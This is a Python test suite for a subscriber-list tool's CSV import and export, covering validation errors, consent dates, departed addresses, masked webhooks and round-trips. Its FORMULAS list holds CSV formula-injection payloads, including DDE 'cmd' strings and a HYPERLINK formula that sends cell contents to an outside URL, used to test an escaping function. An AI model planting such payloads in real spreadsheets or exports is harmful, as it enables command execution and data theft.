"""Subscribers in files: all or none, every bad line named, and what was exported comes back as it was."""

from __future__ import annotations

import json
import stat
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import event
from typer.testing import CliRunner

from monitor.cli.app import app
from monitor.model.messaging import Cadence, ChannelKind, Choice, Interest
from monitor.notify.channels import mask_address
from monitor.store import subscriptions
from monitor.store.schema import Subscription
from monitor.store.schema_desk import Deed
from monitor.store.subscriptions import Entry, choice_of
from monitor.workflow import by_hand, managing
from monitor.workflow.csv_text import plain, safe
from monitor.workflow.exporting import export_csv
from monitor.workflow.importing import import_csv
from monitor.workflow.subscribe import Unsuitable, wish
from tests.pipeline import World
from tests.telling import leave, of, publish, told_world

HOOK = "https://hooks.slack.com/services/T0123456/B0123456/s3cr3tHook"
SHOWN = mask_address(ChannelKind.SLACK, HOOK)
SINCE = date(2025, 3, 1)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with told_world(tmp_path, None) as world:
        yield world


@pytest.fixture
def both(tmp_path: Path, database_url: str) -> Iterator[World]:
    with told_world(tmp_path, None, database_url=database_url) as world:
        yield world


def monitor(world: World, *arguments: str) -> tuple[int, str, str]:
    everything = ["--config", str(world.config_path), "--now", world.now.isoformat(), "subscribers", *arguments]
    done = CliRunner().invoke(app, everything, env=world.environ)
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.exit_code, done.stdout, done.stderr


def taken(world: World, file: str) -> tuple[int, str, str]:
    return monitor(world, "import", file, "--consented-on", SINCE.isoformat())


def file(world: World, text: str | bytes) -> str:
    path = world.folder / "people.csv"
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return str(path)


def everyone(world: World) -> list[tuple[str, str, list[str], list[str], str]]:
    return [(one.channel, one.address, one.topics, one.issues, one.cadence) for one in world.rows(Subscription)]


# --- taking a file in -------------------------------------------------------------------------------------------------


def test_a_file_is_imported(world: World) -> None:
    world.subscribe("bob@example.org")
    path = file(
        world,
        "address,channel,topics,issues,cadence,interests,hour,weekday,zone,consented_on,consent\r\n"
        "ann@example.org,,,stops quotas,weekly,status hearings,7,Friday,America/Chicago,2025-01-02,at the fair\r\n"
        '"bob@example.org",email,topic,,,,,,,,\r\n'
        f"{HOOK},slack,,,daily,,,,,,\r\n",
    )
    assert monitor(world, "import", path) == (0, "2 added, 1 changed.\n", "")
    assert everyone(world) == [
        ("email", "bob@example.org", ["topic"], [], "immediate"),
        ("email", "ann@example.org", [], ["stops", "quotas"], "weekly"),
        ("slack", SHOWN, [], [], "daily"),
    ]
    ann = world.rows(Subscription)[1]
    assert (ann.interests, ann.hour, ann.weekday, ann.zone) == (["status", "hearings"], 7, 4, "America/Chicago")
    assert (ann.consent, ann.consented_on) == ("at the fair", date(2025, 1, 2))
    counts = {"new": 0, "changed": 3, "folded": 0, "masked": 0, "left": [], "suppressed": []}
    assert json.loads(monitor(world, "import", path, "--json")[1]) == counts
    assert world.rows(Deed)[-1].detail == {"new": 0, "changed": 3, "left out": 0}


def test_a_new_address_needs_a_day_of_consent_and_a_known_one_keeps_its_own(world: World) -> None:
    by_hand.add(world.context, wish(world.config, "bob@example.org", "email", Choice()), "Dana", consent="wrote to us")
    path = file(world, "address,consented_on\nann@example.org,\nbob@example.org,\ncat@example.org,2025-02-03\n")
    code, _, err = monitor(world, "import", path)
    assert code == 1
    assert err.splitlines()[0].startswith(f"{path}:2: this address is new, and consented_on does not say since when")
    assert len(err.splitlines()) == 2
    assert taken(world, path)[0] == 0
    said = {one.address: (one.consent, one.consented_on) for one in world.rows(Subscription)}
    assert said == {
        "bob@example.org": ("wrote to us", world.today),
        "ann@example.org": ("imported: people.csv", SINCE),
        "cat@example.org": ("imported: people.csv", date(2025, 2, 3)),
    }


def test_what_waits_leaves_when_a_file_now_says(both: World) -> None:
    for name, cadence in (("ann", "weekly"), ("bob", "weekly"), ("cat", "immediate")):
        both.subscribe(f"{name}@example.org", cadence=cadence)
    publish(both)
    path = file(both, "address,cadence\nann@example.org,immediate\nbob@example.org,weekly\ncat@example.org,weekly\n")
    import_csv(both.context, Path(path), "Dana")
    assert both.later(minutes=5).deliver().sent == 1
    assert [one.state for one in of(both, "ann@example.org")] == ["sent"]


def test_webhooks_of_a_file_need_the_key(world: World) -> None:
    del world.environ["MONITOR_WEBHOOK_KEY"]
    path = file(world, f"address,channel\nann@example.org,\n{HOOK},slack\n")
    code, _, err = taken(world, path)
    assert (code, "openssl rand -base64 32" in err, "s3cr3t" in err) == (1, True, False)
    assert everyone(world) == []


def test_who_has_left_stays_away_until_added_by_name(world: World) -> None:
    for address, channel in (("ann@example.org", "email"), (HOOK, "slack"), ("bob@example.org", "email")):
        world.subscribe(address, channel)
    for address in ("ann@example.org", HOOK):
        leave(world.context, address)
    before = world.rows(Subscription)
    path = file(
        world, f"address,channel,cadence\nann@Example.org,,daily\nbob@example.org,,\n{HOOK},slack,\nnew@example.org,,\n"
    )
    code, out, err = taken(world, path)
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "1 added, 1 changed.",
        "2 left out, since they have left; if they ask to be back: monitor subscribers add",
        "  ann@example.org",
        f"  {SHOWN}",
    ]
    after = world.rows(Subscription)
    assert [(one.left_at, one.cadence) for one in after[:2]] == [(one.left_at, one.cadence) for one in before[:2]]
    assert json.loads(monitor(world, "import", path, "--consented-on", "2025-03-01", "--json")[1])["left"] == [
        "ann@example.org",
        SHOWN,
    ]
    monitor(world, "add", "ann@example.org")
    assert [one.live for one in world.rows(Subscription)] == [True, False, True, True]


def test_an_address_nobody_writes_to_is_left_out_and_named(both: World) -> None:
    both.subscribe("ann@example.org")
    managing.delete(both.context, both.rows(Subscription)[0].id)
    by_hand.suppress(both.context, ChannelKind.EMAIL, "bob@example.org", "complained", "", "Dana")
    done = import_csv(
        both.context,
        Path(file(both, "address\nann@example.org\nbob@example.org\ncat@example.org\n")),
        "Dana",
        consented_on=SINCE,
    )
    assert (done.new, done.left, done.suppressed) == (1, (), ("ann@example.org", "bob@example.org"))
    assert [row[1] for row in everyone(both)] == ["cat@example.org"]


def test_a_hundred_who_have_left_are_not_a_wall_of_text(world: World) -> None:
    people = [f"reader{number}@example.org" for number in range(100)]
    for one in people:
        world.subscribe(one)
    with world.database.transaction() as session:
        session.query(Subscription).update({"left_at": world.now})
    out = taken(world, file(world, "\n".join(["address", *people])))[1].splitlines()
    assert len(out) == 23
    assert out[-1] == "  … and 80 more"


@pytest.mark.parametrize(
    "text",
    [
        "address\nann@example.org\n",
        "\ufeffaddress\nann@example.org\n",  # as Excel saves it
        "address\r\nann@example.org",
        'address,topics\n"ann@example.org",\n\n',
        "cadence,address\nimmediate, ann@example.org \n",
    ],
)
def test_spellings_of_a_good_file(world: World, text: str) -> None:
    assert taken(world, file(world, text)) == (0, "1 added, 0 changed.\n", "")
    assert everyone(world) == [("email", "ann@example.org", [], [], "immediate")]


def test_an_address_twice_in_a_file_counts_once_and_the_last_line_holds(world: World) -> None:
    text = "address,cadence\nann@example.org,daily\nbob@example.org,daily\nann@Example.org,weekly\n"
    out = taken(world, file(world, text))[1]
    assert out == "2 added, 0 changed.\n1 lines repeat an address; the last one counts.\n"
    assert [(row[1], row[4]) for row in everyone(world)] == [
        ("bob@example.org", "daily"),
        ("ann@example.org", "weekly"),
    ]


def test_an_address_in_other_capitals_is_nobody_new(world: World) -> None:
    world.subscribe("ann@example.org")
    world.subscribe("Bob.Smith@example.org")
    names = ("Ann", "bob.smith", "Cat", "cat")
    lines = "".join(f"{name}@example.org,weekly,2025-01-01\n" for name in names)
    out = taken(world, file(world, f"address,cadence,consented_on\n{lines}"))[1]
    assert out.splitlines()[0] == "1 added, 2 changed."
    rows = world.rows(Subscription)
    assert [row.address.partition("@")[0] for row in rows] == ["ann", "Bob.Smith", "cat"]
    assert {row.cadence for row in rows} == {"weekly"}


def test_every_bad_line_is_named_and_nothing_is_imported(world: World) -> None:
    path = file(
        world,
        "address,channel,topics,issues,cadence,hour,consented_on\n"
        "ann@example.org,,,,,,\n"
        "nonsense,,,,,,\n"
        "bob@example.org,,,stosp,,,\n"
        "cat@example.org,,toppic,,,,\n"
        "dan@example.org,,,,hourly,,\n"
        "eve@example.org,,,,,,\n"
        "https://example.org/s3cr3t,slack,,,,,\n"
        "fay@example.org,,,,,24,\n"
        "gus@example.org,,,,,noon,\n"
        "hal@example.org,,,,,,June 9\n"
        "ida@example.org,,,,,,,too much\n",
    )
    code, out, err = taken(world, path)
    assert (code, out) == (1, "")
    told = err.splitlines()
    assert [line.split(": ", 1)[0] for line in told[:-1]] == [
        f"{path}:{number}" for number in (3, 4, 5, 6, 8, 9, 10, 11, 12)
    ]
    assert "did you mean stops?" in told[1]
    assert "did you mean topic?" in told[2]
    assert "write it as 2025-06-09" in told[7]
    assert "more fields than columns" in told[8]
    assert told[-1] == "Nothing was imported."
    assert "s3cr3t" not in err
    assert everyone(world) == []


def test_a_hundred_bad_lines_are_not_a_wall_of_text(world: World) -> None:
    code, _, err = taken(world, file(world, "address\n" + "nonsense\n" * 100))
    assert code == 1
    assert len(err.splitlines()) == 22
    assert "… and 80 more" in err


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "the first line names the columns"),
        ("email\nann@example.org\n", "it does not know email"),
        ("ann@example.org\nbob@example.org\n", "it does not know ann@example.org"),
        ("address;cadence\nann@example.org;daily\n", "parted by semicolons; save it with commas"),
        ("address\tcadence\nann@example.org\tdaily\n", "parted by tabs; save it with commas"),
        ("address,adress\nann@example.org,x\n", "it does not know adress"),
        ("cadence,address\ndaily\n", ":2: '' is not an email address"),
        ("address,address\nann@example.org,x\n", "it names address twice"),
        (b"address\nm\xfcller@example.org\n", ":2: this is not UTF-8 text, perhaps Windows-1252"),
        ("address\nann@example.org\n".encode("utf-16"), ":1: this is UTF-16; save it as CSV in UTF-8"),
        (b"address\n\x00\x01@example.org\n", ":2: this line has a NUL in it"),
        ('address\n"ann@example.org\n', "is a quotation mark missing?"),
        ("address,consent\nann@example.org," + "x" * 200_000 + "\n", "field larger than field limit"),
        ("address\n" + "x" * 1_000_001 + "\n", "it is no list of subscribers"),
    ],
)
def test_a_file_that_is_not_what_it_should_be(world: World, text: str | bytes, said: str) -> None:
    path = file(world, text)
    code, out, err = taken(world, path)
    assert (code, out) == (1, "")
    assert said in err
    assert path in err
    assert "Nothing was imported" in err
    assert everyone(world) == []


def test_five_thousand_lines_are_looked_up_and_written_by_the_thousand(both: World) -> None:
    """Counted and not timed; and what is as it was is not written again."""
    path = Path(file(both, "address\n" + "".join(f"reader{number}@example.org\n" for number in range(5_000))))
    steps: list[tuple[int, int | None]] = []
    asked: list[str] = []
    event.listen(both.database.engine, "before_cursor_execute", lambda *seen: asked.append(seen[2]))
    first = import_csv(both.context, path, "Dana", consented_on=SINCE, progress=lambda *at: steps.append(at))
    assert (first.new, len(both.rows(Subscription))) == (5_000, 5_000)
    assert steps[-1] == (5_000, 5_000)
    assert len(asked) <= 60
    asked.clear()
    second = import_csv(both.context, path, "Dana")
    assert (second.new, second.changed) == (0, 5_000)
    assert len(asked) <= 60


def test_a_file_that_changes_while_it_is_read_leaves_nothing(world: World) -> None:
    path = Path(file(world, "address\n" + "".join(f"reader{number}@example.org\n" for number in range(2_500))))

    def spoil(_done: int, total: int | None) -> None:
        if total is not None:
            with path.open("a") as target:
                target.write("nonsense\n")

    with pytest.raises(Unsuitable, match="nonsense"):
        import_csv(world.context, path, "Dana", consented_on=SINCE, progress=spoil)
    assert everyone(world) == []


# --- giving it out, and back ------------------------------------------------------------------------------------------


def test_an_export_is_for_its_owner_alone_and_comes_back(world: World) -> None:
    when = ["--cadence", "weekly", "--hour", "7", "--weekday", "friday", "--zone", "America/Chicago"]
    monitor(
        world, "add", "ann@example.org", "--issue", "stops", "--interest", "hearings", *when, "--consent", "=a fair"
    )
    monitor(world, "add", "+bob@example.org", "--topic", "topic")
    world.subscribe(HOOK, "slack")
    world.subscribe("cat@example.org")
    leave(world.context, "cat@example.org")
    path = world.folder / "everybody.csv"
    assert "3 subscribers written" in monitor(world, "export", str(path))[1]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    text = path.read_text()
    assert "'+bob@example.org" in text
    assert "'=a fair" in text
    assert "s3cr3t" not in text
    assert "cat@" not in text
    assert monitor(world, "export", "-")[1].splitlines() == text.splitlines()
    before = known(world)
    with world.database.transaction() as session:
        session.query(Subscription).delete()
    out = monitor(world, "import", str(path))[1]
    assert out.splitlines() == [
        "2 added, 0 changed.",
        "1 webhooks left out: a file only shows them masked. Add them by their addresses.",
    ]
    assert known(world) == [one for one in before if one[0] == "email" and one[1] != "cat@example.org"]
    assert monitor(world, "export", str(path))[0] == 1, "a file that is there is not written over"
    assert [one.what for one in world.rows(Deed)].count("exported subscribers") == 2


def known(world: World) -> list[tuple[object, ...]]:
    rows = world.rows(Subscription)
    return [(one.channel, one.address, choice_of(one), one.consent, one.consented_on) for one in rows]


#: What spreadsheets were seen to run, and what begins like it.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''+1",
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_begins_as_a_formula_and_each_comes_back(cell: str) -> None:
    assert safe(cell).startswith("'")
    assert plain(safe(cell)) == cell


@given(st.text())
def test_every_cell_comes_back(cell: str) -> None:
    assert plain(safe(cell)) == cell
    assert not safe(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


_NAMES = st.text("abcxyz+-=@'0123456789_".replace("@", ""), min_size=1, max_size=12)
_CHOICES = st.builds(
    Choice,
    topics=st.sampled_from([(), ("topic",)]),
    issues=st.sampled_from([(), ("stops",), ("stops", "quotas")]),
    interests=st.sampled_from([(Interest.STATUS,), (Interest.ACTIVITY, Interest.HEARINGS), tuple(Interest)]),
    cadence=st.sampled_from(Cadence),
    hour=st.none() | st.integers(0, 23),
    weekday=st.none() | st.integers(0, 6),
    zone=st.sampled_from([None, "America/New_York", "Europe/Berlin"]),
)
_CONSENTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40).map(
    lambda text: " ".join(text.split())
)


@settings(max_examples=25, deadline=None)
@given(st.dictionaries(_NAMES, st.tuples(_CHOICES, _CONSENTS, st.dates(date(2000, 1, 1))), min_size=1, max_size=6))
def test_whoever_is_exported_is_imported_as_they_were(people: dict[str, tuple[Choice, str, date]]) -> None:
    world = _SHARED[0]
    entries = [
        Entry(ChannelKind.EMAIL, f"{name}@example.org", choice, consent=consent or "said so", consented_on=since)
        for name, (choice, consent, since) in people.items()
    ]
    with world.database.transaction() as session:
        session.query(Subscription).delete()
        subscriptions.put(session, entries, world.now)
    before = known(world)
    path = Path(file(world, "".join(export_csv(world.context, "Dana"))))
    with world.database.transaction() as session:
        session.query(Subscription).delete()
    import_csv(world.context, path, "Dana")
    assert known(world) == before


#: One world for all of hypothesis' examples: making one costs more than the example.
_SHARED: list[World] = []


@pytest.fixture(autouse=True, scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    with told_world(tmp_path_factory.mktemp("csv"), None) as world:
        _SHARED.append(world)
        yield
        _SHARED.clear()
